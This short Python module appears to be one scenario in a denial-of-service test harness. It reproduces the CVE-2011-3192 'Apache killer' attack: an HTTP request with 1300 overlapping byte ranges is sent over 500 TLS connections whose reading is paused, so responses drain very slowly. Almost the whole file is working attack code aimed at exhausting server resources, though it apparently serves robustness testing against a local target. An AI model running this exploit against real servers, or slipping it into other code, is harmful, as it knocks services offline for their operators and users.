"""Requests for a file of 2 MB in as many ranges as a field holds (CVE-2011-3192, Apache
killer), whose responses are read very slowly."""

from attack import Attack

ATTACK = Attack(configurations=("static",))
CONNECTIONS = 500


async def run(target):
    ranges = b",".join(b"%d-" % start for start in range(1300))
    asked = b"GET /large HTTP/1.1\r\nHost: localhost\r\nRange: bytes=" + ranges + b"\r\n\r\n"

    async def begin(_):
        reader, writer = await target.tls(receive=4096)
        writer.transport.pause_reading()
        return reader, writer

    opened = await target.many(CONNECTIONS, begin)
    await target.one_after_another(opened, asked)
    await target.wait()
    return f"{len(opened)} connections with 1300 ranges"
